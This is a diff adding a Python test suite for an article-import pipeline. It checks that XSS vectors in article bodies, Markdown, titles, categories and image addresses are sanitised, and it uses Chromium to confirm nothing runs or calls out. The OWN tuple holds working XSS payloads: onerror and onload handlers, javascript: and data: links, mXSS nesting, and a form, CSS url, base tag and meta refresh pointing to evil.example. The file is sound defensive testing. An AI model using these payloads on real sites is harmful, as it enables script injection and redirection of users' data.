@@ -1,0 +1,275 @@
+"""Articles of strangers: what they smuggle in is text when it comes out, and never hangs us."""
+
+from __future__ import annotations
+
+import json
+import os
+import re
+import socket
+import threading
+import time
+from collections.abc import Callable, Iterator
+from functools import lru_cache
+from pathlib import Path
+from typing import TYPE_CHECKING, Any
+from urllib.parse import quote, urlsplit
+
+import pytest
+import uvicorn
+from conftest import ROOT, Visitor
+from lxml import html
+from test_browser import CHROMIUM, FLAGS, unavailable
+
+from clippings.models import Placed
+from clippings.pipeline import process_article
+from clippings.rendering import render_html
+
+if TYPE_CHECKING:
+    from playwright.sync_api import Browser, Page
+
+VECTORS = ROOT.parent / "shared" / "vectors"
+SOAK = bool(os.environ.get("CLIPPINGS_SOAK"))
+BATCH = 25
+"""Vectors in one article of the site."""
+
+PLACES = ("body", "markdown", "title", "category", "image")
+
+KEPT = set(
+    "a abbr audio b blockquote br caption cite code col colgroup dd del details dfn div dl dt em"
+    " figcaption figure h1 h2 h3 h4 h5 h6 hr i img input ins kbd li mark ol p picture pre q rb"
+    " rp rt rtc ruby s samp small source span strike strong sub summary sup table tbody td"
+    " tfoot th thead tr tt u ul var video wbr hgroup header footer section article aside nav bdi bdo center time"
+    " area map data acronym font".split()
+)
+"""Elements that an article may have; script, style, iframe, form, svg and their like are none."""
+
+ADDRESSES = {"href", "src", "poster", "cite", "action", "formaction", "background", "data"}
+SCHEMES = {"", "http", "https", "mailto"}
+
+OWN = (
+    "<scr<script>ipt>alert('雪')</scr</script>ipt>",
+    "<img src=x onerror=alert(1)>",
+    "<a href='java&#10;script:alert(1)'>x</a>",
+    '"><svg/onload=alert(1)>',
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "[雪](javascript:alert(1)) ![雪](data:text/html,<script>alert(1)</script>)",
+    "</div></article></main><h1>outside</h1>",
+    "<style>*{background:url(//evil.example)}</style>",
+    "<form action=//evil.example><input name=a><button>x</button></form>",
+    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
+    "<base href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'>",
+)
+
+
+def vectors() -> list[str]:
+    """Our own attacks, and the published ones where they stand beside the checkout."""
+    published = VECTORS / "xss.jsonl"
+    if not published.exists():
+        return list(OWN)
+    return [*OWN, *(json.loads(line)["payload"] for line in published.read_text().splitlines())]
+
+
+def article(place: str, payloads: list[str], name: str = "攻击") -> bytes:
+    """A file with attacks at one place of it; the others are harmless."""
+    quoted = [json.dumps(payload, ensure_ascii=True) for payload in payloads]
+    first = quoted[0]
+    title = first if place == "title" else json.dumps(name)
+    category = first if place == "category" else '"示例网"'
+    image = first if place == "image" else '"/static/samples/snow.svg"'
+    bodies = {
+        "body": "".join(f"<div>{payload}</div>\n" for payload in payloads),
+        "markdown": "".join(f"段落。\n\n{payload}\n\n" for payload in payloads),
+        "image": "".join(f'<p><img src="{escaped(payload)}"></p>\n' for payload in payloads),
+    }
+    header = f"---\ntitle: {title}\ncategories: [新媒体, {category}, {category}]\nimage: {image}\n"
+    header += "date: 2022-01-11\n---\n\n"
+    text = header + bodies.get(place, f"<p>{name}的正文。</p>\n") + f"\n{name}结尾哨兵。\n"
+    return text.encode("utf-8", "surrogatepass")
+
+
+def escaped(text: str) -> str:
+    return text.replace("&", "&amp;").replace('"', "&quot;").replace("<", "&lt;")
+
+
+def harm(markup: str) -> list[str]:
+    """What of a fragment could run, load or leave: elements, attributes, schemes."""
+    found = []
+    for element in html.fragment_fromstring(markup, create_parent="div").iter():
+        if not isinstance(element.tag, str) or element.tag not in KEPT:
+            found.append(f"<{element.tag}>")
+        for name, value in element.attrib.items():
+            if name.startswith("on") or name in {"style", "srcset", "srcdoc", "ping", "xlink:href"}:
+                found.append(name)
+            if name in ADDRESSES and scheme(value) not in SCHEMES:
+                found.append(f"{name}={value}")
+    return found
+
+
+def scheme(address: str) -> str:
+    """The scheme as a browser finds it, which skips blanks and control characters."""
+    seen = re.sub(r"[\t\n\r]", "", address).strip("".join(map(chr, range(33))))
+    match = re.match(r"([A-Za-z][A-Za-z0-9+.-]*):", seen)
+    return match[1].lower() if match else ""
+
+
+@lru_cache(maxsize=1)
+def processed() -> list[tuple[str, str, Any]]:
+    """(place, payload, outcome) of each vector as body, as Markdown and as picture."""
+    places = ("body", "markdown", "image")
+    return [
+        (place, payload, process_article("攻击.md", article(place, [payload])))
+        for place in places
+        for payload in vectors()
+    ]
+
+
+def test_a_harmful_fragment_is_found() -> None:
+    """The judge of these tests knows what harms: without it they would prove nothing."""
+    for payload in OWN[1:]:
+        if not payload.startswith(("[", "</div")):
+            assert harm(payload), payload
+    assert harm("<a href='data:x'>x</a>") and harm("<p style='color:red'>x</p>")
+    assert not harm("<p>雪 <a href='/a'>a</a> <img src='https://a.example/b.png'></p>")
+
+
+def test_every_vector_becomes_harmless_html() -> None:
+    """As body, as Markdown and as a picture's address: read back by a parser, nothing is left
+    that runs, loads anything but a picture, or leads to another scheme."""
+    left = []
+    for place, payload, outcome in processed():
+        assert isinstance(outcome, Placed), (place, payload)
+        left += [(place, payload, found) for found in harm(render_html(outcome.article.markdown))]
+    assert not left, left[:5]
+
+
+def test_every_vector_leaves_the_rest_of_its_article() -> None:
+    """No attack swallows what comes after it: the last line is still there."""
+    lost = [
+        (place, payload)
+        for place, payload, outcome in processed()
+        if place == "image" and "攻击结尾哨兵" not in outcome.article.markdown
+    ]
+    assert not lost, lost[:5]
+
+
+def test_addresses_of_an_article_are_addresses() -> None:
+    """What the database holds as a link or a picture has a scheme that a browser may follow."""
+    for place, payload, outcome in processed():
+        article = outcome.article
+        for url in (*(x.url for x in article.links), *(x.url for x in article.images)):
+            assert scheme(url) not in {"javascript", "vbscript", "data"}, (place, payload, url)
+
+
+# ── in a browser ─────────────────────────────────────────────────────────────────────────────
+
+CANARY = """
+    window.__ran = [];
+    for (const name of ["alert", "confirm", "prompt", "print", "open"])
+        window[name] = (...words) => { window.__ran.push(name + words.join()); };
+"""
+
+
+def write_articles(folder: Path) -> None:
+    """Vectors in batches as bodies, as Markdown and as pictures; titles and names one a file."""
+    payloads = vectors()
+    for place in PLACES:
+        size = BATCH if place in ("body", "markdown", "image") else 1
+        chosen = payloads if SOAK or size > 1 else payloads[:: max(1, len(payloads) // 60)]
+        for number in range(0, len(chosen), size):
+            file = folder / f"{place}-{number}.md"
+            file.write_bytes(article(place, chosen[number : number + size], f"攻击{place}{number}"))
+
+
+@pytest.fixture(scope="module")
+def hostile_site(
+    serve: Callable[..., Visitor], tmp_path_factory: pytest.TempPathFactory
+) -> Visitor:
+    """A site of nothing but attacks."""
+    folder = tmp_path_factory.mktemp("attacks")
+    write_articles(folder)
+    return serve(folder)
+
+
+@pytest.fixture(scope="module")
+def hostile_address(hostile_site: Visitor) -> Iterator[str]:
+    with socket.socket() as listening:
+        listening.bind(("127.0.0.1", 0))
+        config = uvicorn.Config(hostile_site.datasette.app(), log_level="error", lifespan="off")
+        server = uvicorn.Server(config)
+        thread = threading.Thread(target=server.run, args=([listening],), daemon=True)
+        thread.start()
+        while not server.started:
+            time.sleep(0.05)
+        yield f"http://127.0.0.1:{listening.getsockname()[1]}"
+        server.should_exit = True
+        thread.join(timeout=10)
+
+
+@pytest.fixture(scope="module")
+def hostile_pages(hostile_site: Visitor) -> list[str]:
+    """Every article, and the pages on which titles and names stand."""
+    ids = hostile_site.rows("select id from articles order by id")
+    names = hostile_site.rows("select distinct source from articles where source <> '示例网'")
+    return [
+        *(f"/clippings/articles/{row['id']}" for row in ids),
+        *(f"/source/{quote(row['source'], safe='')}" for row in names[:40]),
+        *("/", "/sources", "/archive", "/search?q=攻击", "/search?q=攻击&sort=newest"),
+        *("/clippings/articles?_size=max", "/clippings", "/clippings/placements?_size=max"),
+        "/clippings?sql=select+title,+source,+image,+markdown+from+articles",
+    ]
+
+
+@pytest.fixture(scope="module")
+def chromium(hostile_address: str) -> Iterator[Browser]:
+    try:
+        from playwright.sync_api import sync_playwright
+    except ImportError:
+        unavailable("Playwright is not installed")
+    if CHROMIUM is None:
+        unavailable("no Chromium is installed")
+    with sync_playwright() as playwright:
+        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
+        yield browser
+        browser.close()
+
+
+def test_no_vector_runs_asks_or_breaks_out(
+    hostile_pages: list[str], hostile_address: str, chromium: Browser
+) -> None:
+    """Every page opened in Chromium: no script of an article runs, no dialog opens, nothing is
+    asked of another host but pictures, the page stays where it is, and what comes after the
+    article stands outside of it."""
+    page = chromium.new_page()
+    asked, shown = watch(page, hostile_address)
+    page.add_init_script(CANARY)
+    for path in hostile_pages:
+        page.goto(hostile_address + path, wait_until="load")
+        assert page.url.startswith(hostile_address), path
+        assert page.evaluate("window.__ran") == [], path
+        assert not shown, (path, shown)
+        assert not asked, (path, asked)
+        assert page.evaluate("document.querySelectorAll('body > footer').length") == 1, path
+        assert page.evaluate("document.querySelectorAll('body > main, body main').length") >= 1
+        assert page.evaluate("document.querySelectorAll('.article-body main').length") == 0
+
+
+def watch(page: Page, address: str) -> tuple[list[str], list[str]]:
+    """What the page asks of others that is no picture, and the dialogs that it opens."""
+    asked: list[str] = []
+    shown: list[str] = []
+
+    def answer(route: Any, request: Any) -> None:
+        if urlsplit(request.url).netloc == urlsplit(address).netloc:
+            route.continue_()
+            return
+        if request.resource_type != "image":
+            asked.append(f"{request.resource_type} {request.url}")
+        route.abort()
+
+    def dismiss(dialog: Any) -> None:
+        shown.append(dialog.message)
+        dialog.dismiss()
+
+    page.route("**/*", answer)
+    page.on("dialog", dismiss)
+    return asked, shown
